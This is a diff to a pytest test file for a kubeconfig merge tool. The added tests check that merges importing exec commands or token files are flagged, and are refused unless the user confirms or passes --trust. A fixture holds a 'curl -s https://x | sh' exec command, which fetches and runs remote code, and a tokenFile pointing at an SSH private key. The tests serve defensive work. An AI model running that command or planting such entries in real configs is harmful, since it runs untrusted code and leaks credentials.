@@ -3,9 +3,11 @@
 from __future__ import annotations
 
 import base64
+import contextlib
 import json
 import shutil
 import subprocess
+import sys
 from pathlib import Path
 from typing import Any
 
@@ -114,8 +116,9 @@ def test_diff_lists_the_other_files_contexts_and_exits_1(mine: Path, kind: Path)
 
 
 def test_merge_keeps_every_line_and_resolves_paths_as_kubectl(mine: Path, kind: Path) -> None:
-    code, out, err = kcm("merge", str(kind), "--kubeconfig", str(mine))
+    code, out, err = kcm("merge", str(kind), "--kubeconfig", str(mine), "--trust")
     assert code == 0, err
+    assert f"brings in: user 'kind-dev' reads client-certificate {kind.parent}/certs/client.crt" in err
     assert "3 added, 0 changed; wrote" in out
     text = mine.read_text()
     kept = [line for line in MINE.splitlines() if line in text.splitlines()]
@@ -126,7 +129,7 @@ def test_merge_keeps_every_line_and_resolves_paths_as_kubectl(mine: Path, kind: 
     assert data["current-context"] == "prod"
     # merging it again changes nothing, not a byte
     before = mine.stat()
-    code, out, _ = kcm("merge", str(kind), "--kubeconfig", str(mine))
+    code, out, _ = kcm("merge", str(kind), "--kubeconfig", str(mine))  # nothing new: no --trust needed
     assert code == 0 and "0 added, 0 changed" in out
     assert (mine.stat().st_mtime_ns, mine.stat().st_ino) == (before.st_mtime_ns, before.st_ino)
     assert kcm("diff", str(kind), "--kubeconfig", str(mine))[0] == 0
@@ -237,3 +240,101 @@ def test_a_bad_source_is_one_line_and_nothing_written(
 def test_diff_of_files_takes_no_sync_options(mine: Path, kind: Path) -> None:
     code, _, err = kcm("diff", str(kind), "--all-accounts", "--kubeconfig", str(mine))
     assert code == 2 and "--all-accounts: sync options" in err
+
+
+EXEC_USER = """apiVersion: v1
+kind: Config
+clusters:
+- name: vendor
+  cluster: {server: 'https://vendor.example.com'}
+users:
+- name: me
+  user:
+    exec:
+      {apiVersion: client.authentication.k8s.io/v1beta1, command: sh, args: [-c, 'curl -s https://x | sh']}
+- name: vendor
+  user: {tokenFile: /home/you/.ssh/id_ed25519}
+contexts:
+- name: vendor
+  context: {cluster: vendor, user: vendor}
+"""
+
+
+def test_a_merge_that_brings_commands_is_refused_in_scripts_and_names_each(
+    mine: Path, tmp_path: Path
+) -> None:
+    source = tmp_path / "vendor.yaml"
+    source.write_text(EXEC_USER)
+    code, _, err = kcm("merge", str(source), "--kubeconfig", str(mine), "--on-conflict", "theirs")
+    assert code == 2
+    line = err.strip()
+    assert line.startswith("kcm: the merge brings in what kubectl would run or read on every call: ")
+    assert "user 'me' runs `sh -c 'curl -s https://x | sh'` instead of: " not in line  # `me` had a token
+    assert "user 'me' runs `sh -c 'curl -s https://x | sh'`" in line
+    assert "user 'vendor' reads tokenFile /home/you/.ssh/id_ed25519" in line
+    assert line.endswith("pass --trust if you trust them; nothing was written")
+    assert mine.read_text() == MINE
+    code, _, err = kcm("diff", str(source), "--kubeconfig", str(mine), "--on-conflict", "theirs")
+    assert code == 1 and "brings in: user 'me' runs `sh -c" in err  # diff shows it, and writes nothing
+    code, _, err = kcm("merge", str(source), "--kubeconfig", str(mine), "--on-conflict", "theirs", "--trust")
+    assert code == 0, err
+    assert read(mine)["users"][0]["user"]["exec"]["command"] == "sh"
+
+
+def test_theirs_replacing_a_users_command_is_shown_as_exactly_that(tmp_path: Path) -> None:
+    target = tmp_path / "config"
+    target.write_text(
+        MINE.replace("user: {token: my-secret-token}", "user: {exec: {command: aws, args: [eks]}}")
+    )
+    source = tmp_path / "vendor.yaml"
+    source.write_text(EXEC_USER)
+    code, _, err = kcm("merge", str(source), "--kubeconfig", str(target), "--on-conflict", "theirs")
+    assert code == 2
+    assert "user 'me' runs `sh -c 'curl -s https://x | sh'` instead of: runs `aws eks`" in err
+
+
+def test_merge_asks_on_a_terminal(mine: Path, tmp_path: Path) -> None:
+    """On a terminal kcm lists what the merge brings in and asks; no (the default) writes nothing."""
+    import os
+    import pty
+
+    source = tmp_path / "vendor.yaml"
+    source.write_text(EXEC_USER)
+    kcm_bin = str(Path(sys.executable).parent / "kcm")
+    for answer, written in ((b"\n", False), (b"y\n", True)):
+        mine.write_text(MINE)
+        pid, fd = pty.fork()
+        if pid == 0:
+            os.execv(  # noqa: S606 (the child of a pty.fork: a shell would only be in the way)
+                kcm_bin, [kcm_bin, "merge", str(source), "--kubeconfig", str(mine), "--on-conflict", "theirs"]
+            )
+        screen = b""
+        while b"Write them?" not in screen:
+            screen += os.read(fd, 1024)
+        os.write(fd, answer)
+        with contextlib.suppress(OSError):
+            while chunk := os.read(fd, 1024):
+                screen += chunk
+        _, status = os.waitpid(pid, 0)
+        assert b"user 'vendor' reads tokenFile /home/you/.ssh/id_ed25519" in screen
+        assert (mine.read_text() != MINE) == written
+        assert (os.waitstatus_to_exitcode(status) == 0) == written
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        "contexts:\n- name: x\n  context: hello\n",
+        "clusters:\n- name: x\n  cluster: {server: [a]}\n",
+        "clusters:\n- name: x\n  cluster: 5\n",
+    ],
+)
+def test_a_malformed_entry_is_refused_in_one_line_and_nothing_written(
+    entry: str, mine: Path, tmp_path: Path
+) -> None:
+    source = tmp_path / "bad.yaml"
+    source.write_text(entry)
+    code, out, err = kcm("merge", str(source), "--kubeconfig", str(mine), "--trust")
+    assert code == 2 and len(err.strip().splitlines()) == 1 and err.startswith(f"kcm: {source}:")
+    assert "must be" in err and out == ""
+    assert mine.read_text() == MINE
